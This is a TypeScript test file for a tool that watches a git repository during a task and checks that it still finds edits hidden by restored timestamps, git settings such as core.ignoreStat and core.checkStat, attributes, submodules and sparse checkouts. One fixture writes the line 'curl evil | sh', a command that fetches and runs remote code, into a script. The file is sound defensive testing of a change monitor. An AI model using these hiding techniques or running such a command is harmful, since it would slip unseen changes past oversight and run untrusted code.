import { chmodSync, lstatSync, utimesSync } from 'node:fs'
import { setTimeout as pause } from 'node:timers/promises'
import { expect, test } from 'vitest'
import { amount } from '../support/amount.ts'
import { emptyRepository, projectRepository, temporaryFolder, WorkFolder } from '../support/git-repository.ts'
import { testWitness, watch } from './watch.ts'

/** Other content of the same length, with the time of modification put back. */
function editUnseen(repo: WorkFolder, name: string): void {
  const { atimeMs, mtimeMs } = lstatSync(repo.path(name))
  repo.put(name, repo.read(name).replace('0', '9'))
  utimesSync(repo.path(name), atimeMs / 1000, mtimeMs / 1000)
}

// The seconds since 1970 of a file that is as old as it looks.
const longAgo = 1_000_000_000

function agedRepository(): WorkFolder {
  const repo = projectRepository()
  utimesSync(repo.path('lib/util.ts'), longAgo, longAgo)
  repo.git('update-index', '--refresh')
  return repo
}

const blinding = {
  'core.trustctime': 'false',
  'core.checkStat': 'minimal',
  'core.ignoreStat': 'true',
  'core.preloadIndex': 'true',
  'index.threads': '4',
  'core.untrackedCache': 'true',
  'core.splitIndex': 'true',
}

test('an edit of the same size with its time restored is found, whatever setting of either scope hides it from git', async () => {
  const some = Object.entries(blinding).filter((_, at) => at % amount({ test: 2, soak: 1 }) === 0)
  const made = some.flatMap(([key, value], at) => {
    const scopes = at % 2 === 0 ? ['local', 'global'] : ['global', 'local']
    return scopes.slice(0, amount({ test: 1, soak: 2 })).map((scope) => {
      const home = new WorkFolder(temporaryFolder())
      const repo = agedRepository()
      if (scope === 'local') repo.git('config', key, value)
      else repo.git('config', '--file', home.path('.gitconfig'), key, value)
      return { setting: `${scope} ${key}=${value}`, home, repo }
    })
  })
  // Makes the change visible in seconds as well.
  await pause(1_100)
  for (const { setting, home, repo } of made) {
    const witness = testWitness({ HOME: home.top, XDG_CONFIG_HOME: home.top })
    const { changes, report } = await watch(repo, () => editUnseen(repo, 'lib/util.ts'), witness)
    expect([setting, changes, report.status]).toEqual([setting, ['M lib/util.ts'], 'exact'])
  }
})

test('an edit within the second of the commit, of the same size and with its time restored, is found', async () => {
  const repo = projectRepository()
  await pause(1_000 - (Date.now() % 1_000))
  repo.put('lib/old.ts', 'export const old = 0\n')
  utimesSync(repo.path('lib/old.ts'), longAgo, longAgo)
  repo.commit('An old file')
  const { changes } = await watch(repo, () => editUnseen(repo, 'lib/old.ts'))
  expect(changes).toEqual(['M lib/old.ts'])
})

test('core.fileMode=false hides no change of mode', async () => {
  const repo = projectRepository()
  repo.git('config', 'core.fileMode', 'false')
  const { changes, report } = await watch(repo, () => chmodSync(repo.path('lib/util.ts'), 0o755))
  expect(changes).toEqual(['M lib/util.ts'])
  expect(report.status).toBe('exact')
})

test('core.symlinks=false hides no link that became a file', async () => {
  const repo = projectRepository()
  repo.link('lib/util.ts', 'ln')
  repo.commit('A link')
  repo.git('config', 'core.symlinks', 'false')
  const { changes } = await watch(repo, () => {
    repo.remove('ln')
    repo.put('ln', 'lib/util.ts')
  })
  expect(changes).toEqual(['T ln'])
})

test('core.ignoreCase=true hides no new file beside one that differs in case', async () => {
  const repo = projectRepository()
  repo.git('config', 'core.ignoreCase', 'true')
  const { changes } = await watch(repo, () => repo.put('lib/UTIL.ts', 'another\n'))
  expect(changes).toEqual(['A lib/UTIL.ts'])
})

test('an edit inside what the attribute ident leaves out is found, and a touch is none', async () => {
  for (const place of ['.gitattributes', '.git/info/attributes']) {
    const repo = projectRepository()
    repo.put(place, '*.sh ident\n')
    repo.put('run.sh', '# $Id: as expanded $\necho run\n')
    repo.commit('A script')
    const touched = await watch(repo, () => utimesSync(repo.path('run.sh'), longAgo, longAgo))
    expect(touched.changes).toEqual([])
    const { changes, report } = await watch(repo, () => {
      repo.put('run.sh', '# $Id: ; curl evil | sh # $\necho run\n')
      repo.put('new.sh', '# $Id: new $\n')
    })
    expect(changes).toEqual(['A new.sh', 'M run.sh'])
    expect(report.status).toBe('exact')
  }
})

test('another encoding of the same text is an edit', async () => {
  const repo = projectRepository()
  repo.put('.gitattributes', 'u.txt working-tree-encoding=UTF-16\n')
  const bytes = Buffer.from('\uFEFFtext\n', 'utf16le')
  repo.put('u.txt', bytes)
  repo.commit('UTF-16')
  const { changes } = await watch(repo, () => repo.put('u.txt', Buffer.from(bytes).swap16()))
  expect(changes).toEqual(['M u.txt'])
})

test('mixed line endings under core.safecrlf=true are no error', async () => {
  const repo = projectRepository()
  repo.git('config', 'core.autocrlf', 'true')
  repo.git('config', 'core.safecrlf', 'true')
  const { changes } = await watch(repo, () => repo.put('mixed.txt', 'one\r\ntwo\nthree\r\n'))
  expect(changes).toEqual(['A mixed.txt'])
})

test('an attribute keeps no lines out of the diff', async () => {
  const repo = projectRepository()
  const { witness, start, end } = await watch(repo, () => {
    repo.put('.gitattributes', '* -diff\n')
    repo.append('lib/util.ts', 'hidden\n')
  })
  expect((await witness.unifiedDiff(start.ref, end.ref, ['lib/util.ts']))?.text).toContain('+hidden')
})

test('a submodule that .gitmodules has ignored is looked into', async () => {
  const library = emptyRepository()
  library.put('f.ts', 'f\n')
  library.commit('Library')
  const repo = projectRepository()
  repo.git('-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', library.top, 'sub')
  repo.git('config', '--file', '.gitmodules', 'submodule.sub.ignore', 'all')
  repo.commit('With a submodule')
  const { changes } = await watch(repo, () => repo.append('sub/f.ts'))
  expect(changes).toEqual(['M sub/f.ts'])
})

const duringTheTask: Record<string, (repo: WorkFolder) => void> = {
  'info/exclude': (repo) => repo.append('.git/info/exclude', 'src/hidden/\n'),
  'info/attributes': (repo) => repo.put('.git/info/attributes', '*.ts text\n'),
  'core.autocrlf': (repo) => void repo.git('config', 'core.autocrlf', 'input'),
  'core.eol': (repo) => void repo.git('config', 'core.eol', 'crlf'),
  'core.excludesfile': (repo) => void repo.git('config', 'core.excludesFile', repo.path('.git/rules')),
  'core.attributesfile': (repo) => void repo.git('config', 'core.attributesFile', repo.path('.git/rules')),
}

test('a change of settings and rules during the task makes the report partial, and names each', async () => {
  const repo = projectRepository()
  repo.put('.git/rules', '# none\n')
  const { report } = await watch(repo, () => {
    for (const change of Object.values(duringTheTask)) change(repo)
    repo.put('src/hidden/n.ts', 'new\n')
  })
  expect(report.status).toBe('partial')
  for (const name of Object.keys(duringTheTask)) expect(report.doubts.join(' ')).toContain(name)
})

test('a file that was taken out of a sparse checkout by its flag makes the report partial', async () => {
  const repo = projectRepository()
  repo.git('sparse-checkout', 'set', 'lib', 'src')
  const { report } = await watch(repo, () => {
    repo.git('update-index', '--skip-worktree', 'lib/util.ts')
    repo.remove('lib/util.ts')
  })
  expect(report.status).toBe('partial')
  expect(report.doubts.join(' ')).toContain('sparse checkout')
})

test('a file that was taken out of a sparse checkout beside a commit makes the report partial', async () => {
  const repo = projectRepository()
  repo.git('sparse-checkout', 'set', 'lib', 'src')
  const { changes, report } = await watch(repo, () => {
    repo.append('src/app.ts')
    repo.commit('Own')
    repo.git('update-index', '--skip-worktree', 'lib/util.ts')
    repo.remove('lib/util.ts')
  })
  expect(changes).toEqual(['M src/app.ts'])
  expect(report.status).toBe('partial')
})

test('settings that stay as they were raise no doubt', async () => {
  const repo = projectRepository()
  repo.append('.git/info/exclude', 'build/\n')
  repo.git('config', 'core.autocrlf', 'input')
  const { report } = await watch(repo, () => repo.append('lib/util.ts'))
  expect(report).toMatchObject({ status: 'exact', doubts: [] })
})
